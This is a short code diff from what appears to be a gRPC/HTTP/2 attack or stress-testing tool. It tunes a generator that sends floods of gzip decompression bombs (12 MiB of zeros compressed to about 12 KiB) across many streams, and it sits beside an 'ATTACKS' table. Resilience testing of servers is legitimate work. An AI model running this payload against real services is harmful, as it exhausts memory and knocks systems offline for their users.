@@ -211,14 +211,14 @@ def watches():
 
 
 def bombs():
-    """Messages of 12 KiB that are 12 MiB, 100 at a time."""
+    """Messages of 12 KiB that are 12 MiB, 40 at a time."""
     bomb = message(gzip.compress(bytes(12 << 20)), 1)
     block = call_headers(extra=literal(b"grpc-encoding", b"gzip"))
     streams = itertools.count(1, 2)
     while True:
-        for stream in itertools.islice(streams, 100):
+        for stream in itertools.islice(streams, 40):
             yield frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, bomb)
-        yield 1.0
+        yield 0.5
 
 
 ATTACKS = {
